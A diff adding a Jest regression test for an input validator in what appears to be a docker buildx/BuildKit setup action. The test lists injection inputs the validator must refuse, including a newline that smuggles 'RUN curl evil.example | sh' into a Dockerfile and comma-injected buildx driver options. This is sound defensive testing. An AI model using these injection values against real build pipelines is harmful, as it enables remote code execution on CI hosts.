@@ -1,0 +1,65 @@
+import { describe, expect, test } from '@jest/globals'
+import * as os from 'node:os'
+import { getInputs } from '../../src/inputs.js'
+import { InputError } from '../../src/errors.js'
+
+// Issue #18, "Inputs that still get through": each row is an input that used to be taken (or
+// refused with its value echoed). Each must now be refused with an error that names the
+// input (and the line, where the input has lines), and that never holds `secret`.
+
+const home = os.tmpdir() // no ~/.docker/buildx/buildkitd.default.toml there
+const run = (m: Record<string, string>) => () => getInputs(n => m[n] ?? '', { env: {}, home })
+
+function refusal(m: Record<string, string>): InputError {
+  try {
+    run(m)()
+  } catch (err) {
+    if (err instanceof InputError) return err
+    throw err
+  }
+  throw new Error(`accepted: ${JSON.stringify(m)}`)
+}
+
+interface Row {
+  what: string
+  inputs: Record<string, string>
+  /** The error's start: input "…"[, line n] */
+  names: string
+  /** Never in the message */
+  secret?: string
+}
+
+const rows: Row[] = [
+  // buildkit-image: goes into the CNI Dockerfile's FROM and LABEL lines and to docker pull
+  {
+    what: 'buildkit-image with a newline adds a Dockerfile instruction',
+    inputs: { cni: 'true', 'buildkit-image': 'moby/buildkit:latest\nRUN curl evil.example | sh' },
+    names: 'input "buildkit-image"',
+    secret: '\nRUN'
+  },
+  {
+    what: 'buildkit-image with " breaks the LABEL line',
+    inputs: { cni: 'true', 'buildkit-image': 'moby/buildkit:latest"x' },
+    names: 'input "buildkit-image"'
+  },
+  {
+    what: 'buildkit-image --help reaches docker pull',
+    inputs: { cni: 'true', 'buildkit-image': '--help' },
+    names: 'input "buildkit-image"'
+  },
+  // cni-image: handed to buildx as --driver-opt image=<it>, which buildx reads as CSV
+  {
+    what: 'cni-image with commas injects driver-opts',
+    inputs: { 'cni-image': 'moby/buildkit:latest,network=host,env.BUILDKIT_BUILDER_ACTION_OWNER=x' },
+    names: 'input "cni-image"'
+  },
+  { what: 'cni-image with a quote', inputs: { 'cni-image': 'a"b' }, names: 'input "cni-image"' }
+]
+
+describe('refused inputs (issue #18)', () => {
+  test.each(rows.map(r => [r.what, r] as const))('%s', (_what, row) => {
+    const err = refusal(row.inputs)
+    expect(err.message.startsWith(row.names + ':')).toBe(true)
+    if (row.secret !== undefined) expect(err.message).not.toContain(row.secret)
+  })
+})
